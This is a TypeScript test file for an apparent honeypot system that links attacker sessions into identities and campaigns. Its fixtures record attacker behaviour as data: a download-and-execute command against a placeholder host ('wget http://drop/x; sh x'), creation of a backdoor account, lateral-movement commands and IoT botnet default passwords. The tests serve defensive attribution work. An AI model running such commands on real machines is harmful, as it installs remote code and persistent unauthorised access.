import { describe, expect, it } from 'vitest'
import { address, company, found, HOUR, list, NOW, stay } from './misled.fixture.ts'

describe('linkage of what is known to mislead', () => {
  it.each(company)(
    'keeps fifty strangers with one popular pair of fingerprints apart, and joins five with a rare one, $where',
    ({ others }) => {
      const popular = { ja3: ['3'.repeat(32)], hassh: ['5'.repeat(32)] }
      const rare = { ja3: ['7'.repeat(32)], hassh: ['9'.repeat(32)] }
      const strangers = list(50, (n) =>
        stay(`stranger-${n}`, NOW + n * 7 * HOUR, { ip: address(n), asn: 65_000 + n, fingerprints: popular }),
      )
      const one = list(5, (n) => stay(`one-${n}`, NOW + n * 30 * HOUR, { ip: address(100 + n), asn: 64_900 + n, fingerprints: rare }))
      const result = found([...strangers, ...one], others)
      expect(new Set(strangers.map(({ id }) => result.identity(id))).size).toBe(50)
      expect(new Set(one.map(({ id }) => result.identity(id))).size).toBe(1)
    },
  )

  it.each(company)('does not take a hundred bots on one decky for one operator, $where', ({ others }) => {
    const credentials = [
      ['root', 'xc3511'],
      ['root', 'vizxv'],
      ['admin', 'botnet-only-7'],
    ]
    const bots = list(100, (n) =>
      stay(`bot-${n}`, NOW + n * 0.2 * HOUR, {
        ip: address(n),
        asn: 64_600 + (n % 40),
        deckies: ['decky-01'],
        credentials,
        payloads: ['b'.repeat(64)],
        fingerprints: { hassh: ['8'.repeat(32)] },
        commands: [{ ts: NOW + n * 0.2 * HOUR, decky: 'decky-01', text: 'cd /tmp; wget http://drop/x; sh x' }],
      }),
    )
    const result = found(bots, others)
    expect(result.identities).toBeGreaterThanOrEqual(95)
  })

  it('makes one campaign, not one identity, of two operators who hand a decky over', () => {
    const habit = (ts: number, ...texts: string[]) => texts.map((text, n) => ({ ts: ts + n * 60_000, decky: 'decky-03', text }))
    const opens = NOW + 20 * HOUR
    const takes = opens + 3 * HOUR
    const opener = {
      asn: 65_101,
      fingerprints: { hassh: ['a1'.repeat(16)], ja3: ['a2'.repeat(16)] },
      c2: ['drop.team.example:8443', 'first.example'],
    }
    const closer = {
      asn: 65_202,
      fingerprints: { hassh: ['c1'.repeat(16)], ja3: ['c2'.repeat(16)] },
      c2: ['drop.team.example:8443', 'second.example'],
    }
    const planted = [['svc_backup7', 'Zr!91kq-team']]
    const files = ['e'.repeat(64)]
    const seen = [
      stay('opener-1', opens - 50 * HOUR, { ...opener, ip: address(1), deckies: ['decky-03', 'decky-05'] }),
      stay('opener-2', opens, {
        ...opener,
        ip: address(2),
        deckies: ['decky-03'],
        payloads: files,
        credentials: [['root', 'admin'], ...planted],
        commands: habit(opens, 'useradd -m svc_backup7', 'crontab -l'),
      }),
      stay('closer-1', takes, {
        ...closer,
        ip: address(3),
        deckies: ['decky-03'],
        payloads: files,
        credentials: planted,
        commands: habit(takes, 'arp -a', 'ip route', 'ssh 10.0.0.5'),
      }),
      stay('closer-2', takes + 40 * HOUR, {
        ...closer,
        ip: address(4),
        deckies: ['decky-03', 'decky-08'],
        payloads: ['f'.repeat(64)],
      }),
    ]
    const result = found(seen)
    expect(result.identity('opener-1')).toBe(result.identity('opener-2'))
    expect(result.identity('closer-1')).toBe(result.identity('closer-2'))
    expect(result.identity('opener-2')).not.toBe(result.identity('closer-1'))
    expect(result.campaign('opener-2')).toBe(result.campaign('closer-1'))
  })

  it('does not let a chain of 26 weak links collapse', () => {
    // Each shares a somewhat common pair with the next, and nothing else; their tools differ.
    const chain = list(26, (n) =>
      stay(`chain-${n}`, NOW + n * 11 * HOUR, {
        ip: address(n),
        asn: 65_300 + n,
        fingerprints: { hassh: [`${n}`.padStart(32, 'c')] },
        credentials: [
          ['root', `weak-${n}`],
          ['root', `weak-${n + 1}`],
        ],
      }),
    )
    expect(found(chain).largest).toBeLessThanOrEqual(6)
  })

  it('does not let one poisoner who shows the traces of two strangers merge them', () => {
    const trace = (letter: string) => ({
      fingerprints: { hassh: [letter.repeat(32)], ja3: [letter.repeat(32)] },
      payloads: [letter.repeat(64)],
      credentials: [[`own-${letter}`, `pass-${letter}`]],
    })
    const person = (letter: string, block: number) =>
      list(4, (n) => stay(`${letter}-${n}`, NOW + n * 40 * HOUR, { ...trace(letter), ip: address(100 * block + n), asn: 65_400 + block }))
    const [one, other] = [person('d', 1), person('e', 2)]
    const poison = stay('poison', NOW + 100 * HOUR, {
      ip: address(999),
      asn: 65_499,
      fingerprints: { hassh: ['d', 'e'].map((letter) => letter.repeat(32)), ja3: ['d', 'e'].map((letter) => letter.repeat(32)) },
      payloads: ['d', 'e'].map((letter) => letter.repeat(64)),
      credentials: ['d', 'e'].map((letter) => [`own-${letter}`, `pass-${letter}`]),
    })
    const result = found([...one, ...other, poison])
    expect(result.identity('d-0')).toBe(result.identity('d-3'))
    expect(result.identity('e-0')).toBe(result.identity('e-3'))
    expect(result.identity('d-0')).not.toBe(result.identity('e-0'))
  })
})
